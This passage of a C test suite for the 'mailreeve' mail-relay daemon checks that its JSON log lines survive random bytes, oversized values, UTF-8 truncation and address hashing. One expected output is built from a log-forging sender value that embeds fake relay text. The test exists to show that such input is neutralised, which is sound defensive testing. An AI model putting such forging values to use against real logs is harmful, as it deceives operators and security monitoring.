		"reject: mail from <x? from 127.0.0.1: fine (relay) ?y@example.com> by login <root from "
		"127.0.0.1: fine>: the recipient is not ours, and the client has neither a login nor a network that "
		   "may relay (relay)");
	json_decref(root);
}
END_TEST

/* Up to max bytes: half of the time any, else from a set that breaks things. */
static struct mr_str random_text(char *memory, unsigned max)
{
	static const char hard[] = "\"\\\n\r\0\x1b\x7f\xe2\x80\xa8\xae\xff\xc3{}[]:,<>@u0aA ";
	unsigned n = random_below(max + 1);
	bool any = random_below(2) == 0;

	for (unsigned i = 0; i < n; i++)
		memory[i] = any ? (char)random_below(256) : hard[random_below(sizeof(hard))];
	return (struct mr_str){ memory, n };
}

START_TEST(random_values_come_back_whole)
{
	static char memory[8][300];

	for (unsigned round = 0; round < RANDOM_ROUNDS; round++) {
		struct mr_connection connection = { .asn = -1 };
		struct mr_rcpt_summary rcpt = { .count = 1, .refused = 1, .to_count = 1, .refused_count = 1 };
		struct mr_event event = { .action = MR_EVENT_VERDICT, .decided = true, .size = -1, .duration_ns = -1 };
		unsigned max = round % 100 == 0 ? 170 : 24;
		connection.helo = random_text(memory[0], max);
		connection.tls_cipher = random_text(memory[1], max);
		rcpt.to[0] = random_text(memory[2], max);
		rcpt.refused_paths[0] = random_text(memory[3], max);
		event.sender = random_text(memory[4], max);
		event.login = random_text(memory[5], max);
		event.recipient = random_text(memory[6], max);
		event.queue_id = random_text(memory[7], max);
		event.connection = &connection;
		event.rcpt = &rcpt;
		event.decision.verdict = MR_REJECT;
		event.decision.reason = MR_REASON_RELAY_DENIED;
		json_t *root = written(&event, NULL);
		check_bytes(root, "mailreeve.helo", connection.helo);
		check_bytes(root, "email.sender.address", event.sender);
		check_bytes(root, "mailreeve.recipient", event.recipient);
		check_bytes(root, "email.local_id", event.queue_id);
		check_text(root, "mailreeve.verdict", "reject");
		check_text(root, "event.action", "verdict");
		/* The 18 objects and members of the top, no more: nothing was forged. */
		REQUIRE(json_object_size(root) <= 18, "%s", line);
		json_decref(root);
	}
}
END_TEST

/* Each string of event and connection, and all lists at their bound, become value. */
static void fill(struct mr_event *event, struct mr_connection *connection, struct mr_rcpt_summary *rcpt,
		 struct mr_trail *trail, struct mr_str *header_from, struct mr_str value)
{
	*connection = sample_connection();
	connection->client_name = connection->country = connection->listener = connection->helo = value;
	connection->server_name = connection->tls_version = connection->tls_cipher = connection->as_name = value;
	connection->asn = INT64_MAX;
	*rcpt = (struct mr_rcpt_summary){ .count = UINT64_MAX,
					  .accepted = UINT64_MAX,
					  .refused = UINT64_MAX,
					  .rejected_by_mta = UINT64_MAX,
					  .to_count = MR_EVENT_RCPT_MAX,
					  .refused_count = MR_EVENT_RCPT_MAX };
	for (size_t i = 0; i < MR_EVENT_RCPT_MAX; i++)
		rcpt->to[i] = rcpt->refused_paths[i] = header_from[i] = value;
	*trail = (struct mr_trail){ .count = MR_TRAIL_MAX };
	for (size_t i = 0; i < MR_TRAIL_MAX; i++)
		trail->tried[i].name = value;
	*event = sample_event(connection, rcpt);
	memset(event->id, 'i', MR_EVENT_ID_MAX);
	memset(event->transaction, 't', MR_EVENT_ID_MAX);
	event->sequence = event->generation = event->dropped = UINT64_MAX / 2;
	event->size = event->duration_ns = INT64_MAX;
	event->decision.would = (MR_RULE_BIT(MR_RULE_COUNT) - 1);
	event->decision.would_reason = MR_REASON_RELAY_CONTROL;
	event->action = MR_EVENT_ALERT;
	event->unfinished = true;
	event->trail = trail;
	event->header_from = header_from;
	event->header_from_count = MR_EVENT_RCPT_MAX;
	event->fact_id = event->detail = event->recipient = event->exemption = event->ruleset = value;
	event->login = event->sender = event->queue_id = event->message_id = value;
	event->protocol = event->prefix = event->account = event->operator_name = value;
}

START_TEST(the_longest_event_still_fits)
{
	static const struct mr_str units[] = { MR_STR("a"),    MR_STR("\0"),
					       MR_STR("\xff"), MR_STR("\xf0\x9f\x93\xa7"),
					       MR_STR("\""),   MR_STR("<\xe2\x80\xa8@"),
					       MR_STR("@") };
	static char value[LONG_VALUE];
	struct mr_log_policy hashed = { .hash_addresses = true };
	struct mr_str header_from[MR_EVENT_RCPT_MAX];
	struct mr_connection connection;
	struct mr_rcpt_summary rcpt;
	struct mr_trail trail;
	struct mr_event event;

	for (size_t i = 0; i < sizeof(units) / sizeof(units[0]); i++) {
		for (size_t at_byte = 0; at_byte + units[i].n <= sizeof(value); at_byte += units[i].n)
			memcpy(value + at_byte, units[i].p, units[i].n);
		for (size_t n = 1; n <= sizeof(value); n *= 2) {
			fill(&event, &connection, &rcpt, &trail, header_from, (struct mr_str){ value, n });
			for (int hash = 0; hash < 2; hash++) {
				json_t *root = written(&event, hash == 1 ? &hashed : NULL);
				check_text(root, "mailreeve.verdict", "reject");
				check_flag(root, "mailreeve.truncated", true);
				json_decref(root);
			}
		}
	}
}
END_TEST

START_TEST(a_full_list_does_not_cost_the_other_values)
{
	static char paths[MR_EVENT_RCPT_MAX][330];
	struct mr_connection connection = sample_connection();
	struct mr_rcpt_summary rcpt = { .count = 20, .refused = 20, .to_count = 20, .refused_count = 20 };
	struct mr_event event = sample_event(&connection, &rcpt);

	for (size_t i = 0; i < MR_EVENT_RCPT_MAX; i++) {
		memset(paths[i], 'a' + (int)i, sizeof(paths[i]));
		rcpt.to[i] = rcpt.refused_paths[i] = (struct mr_str){ paths[i], sizeof(paths[i]) };
	}
	json_t *root = written(&event, NULL);
	check_flag(root, "mailreeve.truncated", true);
	check_text(root, "email.message_id", "<m1@client.example.net>");
	check_text(root, "rule.ruleset", "/etc/mailreeve/mailreeve.conf");
	/* What is left of a list is whole: no half addresses. */
	const json_t *refused = at(root, "mailreeve.rcpt.refused");
	ck_assert_uint_ge(json_array_size(refused), 3);
	for (size_t i = 0; i < json_array_size(refused); i++)
		ck_assert_uint_eq(json_string_length(json_array_get(refused, i)), sizeof(paths[i]));
	check_int(root, "mailreeve.rcpt.refused_count", 20);
	json_decref(root);
}
END_TEST

START_TEST(a_value_is_cut_between_characters)
{
	static char value[3000];
	struct mr_event event = { .action = MR_EVENT_VERDICT, .decided = true, .size = -1, .duration_ns = -1 };

	for (size_t start = 0; start < 3; start++) {
		memset(value, 'x', start);
		for (size_t i = start; i + 3 <= sizeof(value); i += 3)
			memcpy(value + i, "\xe2\x82\xac", 3);
		event.queue_id = (struct mr_str){ value, sizeof(value) - 3 };
		json_t *root = written(&event, NULL);
		const json_t *text = at(root, "email.local_id");
		ck_assert_uint_gt(json_string_length(text), 1000);
		ck_assert_uint_le(json_string_length(text), 1024);
		ck_assert_int_eq(memcmp(json_string_value(text), value, json_string_length(text)), 0);
		check_flag(root, "mailreeve.truncated", true);
		json_decref(root);
	}
}
END_TEST

static const char *text_at(const json_t *root, const char *path)
{
	const json_t *value = at(root, path);

	return json_is_array(value) ? json_string_value(json_array_get(value, 0)) : json_string_value(value);
}

START_TEST(hashing_hides_local_parts)
{
	struct mr_log_policy log = { .hash_addresses = true, .address_key = { 1, 2, 3 } };
	struct mr_connection connection = sample_connection();
	struct mr_str header_from[] = { MR_STR("Private.Person@Example.com") };
	struct mr_rcpt_summary rcpt = { .count = 1,
					.refused = 1,
					.to_count = 1,
					.refused_count = 1,
					.to = { MR_STR("private.person@example.com") },
					.refused_paths = { MR_STR("<PRIVATE.person@example.com>") } };
	struct mr_event event = sample_event(&connection, &rcpt);

	event.login = MR_STR("bob");
	event.sender = MR_STR("private.person@example.com");
	event.recipient = MR_STR("<private.person@EXAMPLE.COM>");
	event.header_from = header_from;
	event.header_from_count = 1;
	json_t *root = written(&event, &log);
	for (const char *p = line; *p != '\n'; p++)
		ck_assert_msg(strncasecmp(p, "private", 7) != 0, "%s", line);
	const char *sender = text_at(root, "email.sender.address");
	ck_assert_uint_eq(strcspn(sender, "@"), 16);
	ck_assert_uint_eq(strspn(sender, "0123456789abcdef"), 16);
	ck_assert_str_eq(sender + 16, "@example.com");
	/* One person, one hash, wherever and however the address is written. */
	ck_assert_str_eq(text_at(root, "email.to.address"), sender);
	ck_assert_int_eq(strncmp(text_at(root, "email.from.address"), sender, 16), 0);
	ck_assert_int_eq(strncmp(text_at(root, "mailreeve.rcpt.refused") + 1, sender, 16), 0);
	ck_assert_int_eq(strncmp(text_at(root, "mailreeve.recipient") + 1, sender, 16), 0);
	ck_assert_str_eq(text_at(root, "mailreeve.recipient") + 17, "@EXAMPLE.COM>");
	check_text(root, "user.name", "bob");
	char first[64];
	snprintf(first, sizeof(first), "%s", sender);
	json_decref(root);
	log.address_key[0] = 9;
	root = written(&event, &log);
	ck_assert_str_ne(text_at(root, "email.sender.address"), first);
	json_decref(root);
}
END_TEST

START_TEST(hashing_shows_no_domain_that_is_none)
{
	struct mr_log_policy log = { .hash_addresses = true };
	static const char *const secrets[] = { "secret",      "\"a@secret\"",    "secret%example.com",
					       "host!secret", "<\"a@secret \">", "x@secret part" };

	for (size_t i = 0; i < sizeof(secrets) / sizeof(secrets[0]); i++) {
		struct mr_event event = { .action = MR_EVENT_REFUSED, .decided = true, .size = -1, .duration_ns = -1 };
		event.recipient = mr_str_of(secrets[i]);
		event.decision.verdict = MR_REJECT;
		event.decision.reason = MR_REASON_RELAY_DENIED;
		json_t *root = written(&event, &log);
		ck_assert_ptr_null(strstr(line, "secret"));
		json_decref(root);
	}
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("line");
	TCase *fields = tcase_create("fields");
	TCase *hostile = tcase_create("hostile");

	tcase_add_test(fields, a_refused_message_has_every_field);
	tcase_add_test(fields, an_accept_that_no_rule_spoke_about_names_none);
	tcase_add_test(fields, outcome_and_code_follow_the_verdict);
	tcase_add_test(fields, observe_mode_says_what_would_have_been);
	tcase_add_test(fields, exemptions_are_listed_in_order);
	tcase_add_test(fields, an_alert_about_a_login_names_the_technique);
	tcase_add_test(fields, a_refused_login_has_what_a_siem_looks_for);
	tcase_add_test(fields, a_guarded_login_is_no_success);
	tcase_add_test(fields, the_technique_follows_the_reason);
	tcase_add_test(fields, a_guessed_account_that_is_frozen_names_both_techniques);
	tcase_add_test(fields, a_blocked_source_without_a_connection);
	tcase_add_test(fields, what_screening_would_have_done);
	tcase_add_test(fields, what_the_daemon_says_of_itself);
	tcase_add_test(fields, a_replayed_fact_keeps_its_id);
	tcase_add_test(fields, a_name_that_says_nothing_is_left_out);
	tcase_add_test(fields, hashing_hides_local_parts);
	tcase_add_test(fields, hashing_shows_no_domain_that_is_none);
	suite_add_tcase(suite, fields);
	tcase_set_timeout(hostile, 300);
	tcase_add_test(hostile, nasty_values_come_back_whole);
	tcase_add_test(hostile, a_sentence_cannot_be_forged);
	tcase_add_test(hostile, a_login_line_cannot_be_forged);
	tcase_add_test(hostile, random_values_come_back_whole);
	tcase_add_test(hostile, the_longest_event_still_fits);
	tcase_add_test(hostile, a_full_list_does_not_cost_the_other_values);
	tcase_add_test(hostile, a_value_is_cut_between_characters);
	suite_add_tcase(suite, hostile);
	return mr_run_suite(suite);
}
